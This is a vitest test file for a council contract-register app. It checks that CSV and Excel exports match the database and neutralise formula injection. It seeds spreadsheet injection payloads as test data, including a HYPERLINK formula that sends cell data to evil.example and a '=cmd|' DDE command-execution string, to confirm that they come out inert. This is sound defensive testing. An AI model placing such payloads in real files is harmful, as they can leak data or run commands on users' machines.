// The register and whole-workspace exports from a workspace holding the demo council and a few
// records made to test the edges: the figures in the files equal the database's, and a supplier
// called "=HYPERLINK(...)" or "@SUM(A1)" comes out inert in every export the app makes.

import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Context } from '../../electron/api/context';
import { registerColumns } from '../../electron/excel/register-export';
import { csvMediaType, xlsxMediaType, type ExportedFile } from '../../shared/exported-file';
import { csvRows, expectNoFormulaCells, loadWorkbook, sheetText } from '../fixtures/written-files';
import {
  createContract,
  createExercise,
  createSupplier,
  openSharedWorkspace,
} from './seed-records';
import { callApi, countRows, expectError, expectOk, tableNames } from './temp-workspace';

let shared: Awaited<ReturnType<typeof openSharedWorkspace>>;
let ctx: Context;

const injections = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(A1)'];
const threshold = 500_000;

beforeAll(async () => {
  shared = await openSharedWorkspace();
  ctx = shared.ctx;
  expectOk(await callApi(ctx, 'demo.load', {}));
  for (const [index, name] of injections.entries()) {
    const supplier = await createSupplier(ctx, { name, address: '+1 Evil Street' });
    await createContract(ctx, supplier.id, {
      reference: `INJ-${index}`,
      title: '-2+3 cmd',
      directorate: '@Finance',
      valuePence: 1_000_000,
    });
  }
  const plain = await createSupplier(ctx, { name: 'Threshold Testing Ltd' });
  await createContract(ctx, plain.id, { reference: 'EDGE-AT', valuePence: threshold });
  await createContract(ctx, plain.id, { reference: 'EDGE-OVER', valuePence: threshold + 1 });
  const gone = await createContract(ctx, plain.id, { reference: 'EDGE-GONE', valuePence: 9e6 });
  expectOk(await callApi(ctx, 'contracts.delete', { id: gone.id, version: gone.version }));
  await createExercise(ctx, { reference: 'INJ-EX', title: '=cmd|"/c calc"!A1' });
}, 120_000);

afterAll(async () => {
  await shared?.close();
});

const bytesOf = (file: ExportedFile) => Buffer.from(file.contentBase64, 'base64');
const column = (header: string) => registerColumns.findIndex((c) => c.header === header);

interface StoredContract {
  reference: string;
  value_pence: number;
  supplier: string;
}

/** What the register should hold, straight from the database. */
function registerInDatabase(): StoredContract[] {
  return shared.db
    .prepare(
      `SELECT c.reference, c.value_pence, s.name AS supplier
       FROM contracts c JOIN suppliers s ON s.id = c.supplier_id
       WHERE c.deleted_at IS NULL AND c.value_pence > ? ORDER BY c.reference COLLATE NOCASE`,
    )
    .all(threshold) as StoredContract[];
}

async function exportRegister(format: 'csv' | 'xlsx'): Promise<ExportedFile> {
  return expectOk(await callApi(ctx, 'exports.register', { format }));
}

describe('the Transparency Code register', () => {
  it('as CSV holds every contract over £5,000 with the figures the database holds', async () => {
    const file = await exportRegister('csv');
    expect(file.mediaType).toBe(csvMediaType);
    expect(file.fileName).toMatch(/^contract register \d{4}-\d{2}-\d{2}\.csv$/);
    const [header, ...rows] = csvRows(bytesOf(file));
    expect(header?.[0]).toBe('Organisation name');
    const stored = registerInDatabase();
    expect(stored.length).toBeGreaterThan(40);
    expect(rows.map((row) => row[column('Contract Reference number / ID')])).toEqual(
      stored.map((contract) => contract.reference),
    );
    expect(rows.map((row) => Math.round(Number(row[column('Contract value')]) * 100))).toEqual(
      stored.map((contract) => contract.value_pence),
    );
    expect(rows.every((row) => row[0] === 'Demo District Council')).toBe(true);
  });

  it('leaves out a contract of exactly £5,000 and a deleted one, and keeps £5,000.01', async () => {
    const [, ...rows] = csvRows(bytesOf(await exportRegister('csv')));
    const references = rows.map((row) => row[column('Contract Reference number / ID')]);
    expect(references).toContain('EDGE-OVER');
    expect(references).not.toContain('EDGE-AT');
    expect(references).not.toContain('EDGE-GONE');
  });

  it('as XLSX holds the same contracts, values as £ numbers and dates as dates', async () => {
    const file = await exportRegister('xlsx');
    expect(file.mediaType).toBe(xlsxMediaType);
    const bytes = bytesOf(file);
    await expectNoFormulaCells(bytes);
    const sheet = (await loadWorkbook(bytes)).getWorksheet('Contract register');
    if (!sheet) throw new Error('no register sheet');
    const stored = registerInDatabase();
    expect(sheet.rowCount).toBe(stored.length + 1);
    stored.forEach((contract, index) => {
      const row = sheet.getRow(index + 2);
      expect(row.getCell(column('Contract Reference number / ID') + 1).text).toBe(
        contract.reference,
      );
      expect(row.getCell(column('Supplier name') + 1).text).toBe(contract.supplier);
      const value = row.getCell(column('Contract value') + 1);
      expect(value.type).toBe(ExcelJS.ValueType.Number);
      expect(Math.round((value.value as number) * 100)).toBe(contract.value_pence);
      expect(row.getCell(column('Contract start date') + 1).type).toBe(ExcelJS.ValueType.Date);
    });
  });

  it('refuses a format it does not make, naming the field', async () => {
    const error = expectError(
      await callApi(ctx, 'exports.register', { format: 'pdf' } as unknown as { format: 'csv' }),
    );
    expect(error.code).toBe('invalid_input');
    expect(error.message).toContain('Choose CSV or Excel (.xlsx)');
    expect(JSON.stringify(error.details)).toContain('format');
  });
});

describe('the whole workspace', () => {
  let book: ExcelJS.Workbook;
  let xml: string;

  beforeAll(async () => {
    const file = expectOk(await callApi(ctx, 'exports.workspace', {}));
    expect(file.mediaType).toBe(xlsxMediaType);
    const bytes = bytesOf(file);
    xml = await expectNoFormulaCells(bytes);
    book = await loadWorkbook(bytes);
  }, 60_000);

  const sheet = (name: string) => {
    const found = book.getWorksheet(name);
    if (!found) throw new Error(`no sheet ${name}`);
    return found;
  };

  it('has a sheet for every table, each with a row for every row stored', () => {
    const tables = tableNames(shared.db);
    expect(book.worksheets.map((s) => s.name).sort()).toEqual(['Contents', ...tables].sort());
    const contents = sheetText(sheet('Contents')).slice(1);
    for (const table of tables) {
      const rows = countRows(shared.db, table);
      expect(contents).toContainEqual([table, String(rows)]);
      expect(sheet(table).rowCount).toBe(rows + 1);
    }
  });

  it('writes every contract value as £ and its dates as dates, equal to the database', () => {
    const contracts = sheet('contracts');
    const header = sheetText(contracts)[0] ?? [];
    const at = (name: string) => header.indexOf(name) + 1;
    const stored = new Map(
      (
        shared.db.prepare('SELECT id, value_pence, start_date FROM contracts').all() as {
          id: string;
          value_pence: number;
          start_date: string;
        }[]
      ).map((row) => [row.id, row]),
    );
    let checked = 0;
    contracts.eachRow((row, number) => {
      if (number === 1) return;
      const contract = stored.get(row.getCell(at('id')).text);
      if (!contract) throw new Error(`unknown contract ${row.getCell(at('id')).text}`);
      expect(Math.round((row.getCell(at('value_pence')).value as number) * 100)).toBe(
        contract.value_pence,
      );
      expect(row.getCell(at('start_date')).value).toEqual(
        new Date(`${contract.start_date}T00:00:00.000Z`),
      );
      expect(row.getCell(at('created_at')).type).toBe(ExcelJS.ValueType.Date);
      checked += 1;
    });
    expect(checked).toBe(stored.size);
  });

  it('lists pictures by name and size, never their bytes', () => {
    const pictures = sheet('case_study_pictures');
    const header = sheetText(pictures)[0] ?? [];
    expect(header).toContain('file_name');
    expect(header).toContain('bytes (size in bytes)');
    const sizes = shared.db
      .prepare('SELECT id, length(bytes) AS size FROM case_study_pictures')
      .all() as { id: string; size: number }[];
    expect(sizes.length).toBeGreaterThan(0);
    const rows = sheetText(pictures).slice(1);
    for (const { id, size } of sizes) {
      const row = rows.find((cells) => cells[header.indexOf('id')] === id);
      expect(row?.[header.indexOf('bytes (size in bytes)')]).toBe(String(size));
    }
  });

  it('keeps the formula-like names as the same text, in string cells', () => {
    const names = sheetText(sheet('suppliers')).map((row) => row[1]);
    for (const name of injections) expect(names).toContain(name);
    expect(xml).toContain('@SUM(A1)');
  });
});

describe('a formula-like name in every export', () => {
  it('is a plain string in every workbook and starts with an apostrophe in the CSV', async () => {
    const workbooks = [
      await callApi(ctx, 'contracts.export', { search: 'INJ-' }),
      await callApi(ctx, 'suppliers.export', { search: 'SUM' }),
      await callApi(ctx, 'exercises.export', { search: 'INJ-EX' }),
      await callApi(ctx, 'exports.register', { format: 'xlsx' }),
      await callApi(ctx, 'exports.workspace', {}),
    ].map((result) => bytesOf(expectOk(result)));
    for (const bytes of workbooks) {
      const xml = await expectNoFormulaCells(bytes);
      expect(xml).toMatch(/@SUM\(A1\)|=cmd\|/);
      for (const sheet of (await loadWorkbook(bytes)).worksheets) {
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
            expect(cell.formula).toBeFalsy();
          }),
        );
      }
    }

    const [, ...rows] = csvRows(bytesOf(await exportRegister('csv')));
    const injected = rows.filter((row) =>
      row[column('Contract Reference number / ID')]?.startsWith('INJ-'),
    );
    expect(injected.map((row) => row[column('Supplier name')])).toEqual(
      injections.map((name) => `'${name}`),
    );
    for (const row of injected) {
      expect(row[column('Title of the Agreement')]).toBe("'-2+3 cmd");
      expect(row[column('Directorate / service responsible')]).toBe("'@Finance");
      expect(row[column('Supplier address')]).toBe("'+1 Evil Street");
    }
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
    }
  });
});
